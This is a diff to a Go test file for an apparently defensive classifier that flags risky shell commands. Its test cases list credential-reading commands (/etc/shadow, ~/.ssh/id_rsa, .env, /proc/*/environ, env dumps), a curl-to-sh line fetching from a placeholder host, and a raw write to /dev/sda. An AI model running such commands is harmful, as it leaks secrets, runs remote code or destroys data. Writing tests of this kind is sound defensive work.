@@ -126,6 +126,23 @@ func TestReasonsAndFactors(t *testing.T) {
 		{"cat /etc/shadow", "read-only", FactorSensitive},
 		{"cat ~/.ssh/id_rsa", "read-only", FactorSensitive},
 		{"cat .env", "read-only", FactorSensitive},
+		{"cat /proc/1/environ", "read-only", FactorSensitive},
+		{"cat /proc/self/environ", "read-only", FactorSensitive},
+		{"tr '\\0' '\\n' < /proc/$$/environ", "read-only", FactorSensitive},
+		{"cat /proc/*/environ", "read-only", FactorSensitive},
+		{"cat /proc/self/env*", "read-only", FactorSensitive},
+		{"cat /proc/self/task/1/environ", "read-only", FactorSensitive},
+		{"cd /proc/self && cat environ", "read-only", FactorSensitive},
+		{"xargs -0 < /proc/self/environ", "", FactorSensitive},
+		{"cat /proc/self/status", "read-only", ""},
+		{"cat /proc/meminfo", "read-only", ""},
+		{"cat /proc/self/cmdl*", "read-only", ""},
+		{"printenv PATH HOME", "read-only", ""},
+		{"env CI=1 ls", "read-only", ""},
+		{"env", environment, FactorSensitive},
+		{"export -p", environment, FactorSensitive},
+		{"ps auxe", environment, FactorSensitive},
+		{"sudo printenv X", "needs root", FactorSensitive},
 		{"ls | sh", "standard input", FactorInterpreter},
 		{"curl https://x.example/y | sh", "", FactorInterpreter},
 		{"cat x > /dev/sda", "block device", FactorDevice},
@@ -144,6 +161,28 @@ func TestReasonsAndFactors(t *testing.T) {
 		}
 		if tt.factor == "" && len(got.Factors) > 0 {
 			t.Errorf("%q: factors %q, want none", tt.line, got.Factors)
+		}
+	}
+}
+
+// TestStarredSpots: where a * may stand in a spot's name is what starry looks at.
+func TestStarredSpots(t *testing.T) {
+	if len(spotIndex().stars) == 0 {
+		t.Error("there is none")
+	}
+	for _, s := range spotIndex().stars {
+		if s.segments[0] != "proc" {
+			t.Errorf("%q does not begin with /proc", s.segments)
+		}
+	}
+}
+
+// TestLooksAndRuns: a program that shows variables, and runs another one, is not
+// safe: no more than one that reads a file.
+func TestLooksAndRuns(t *testing.T) {
+	for _, line := range []string{`awk '{ system("ls") }' x`, `awk '{ print ENVIRON["X"]; system("ls") }' x`} {
+		if got := Each(analyze(line), Default)[0]; got.Class != Moderate {
+			t.Errorf("%q: %+v", line, got)
 		}
 	}
 }
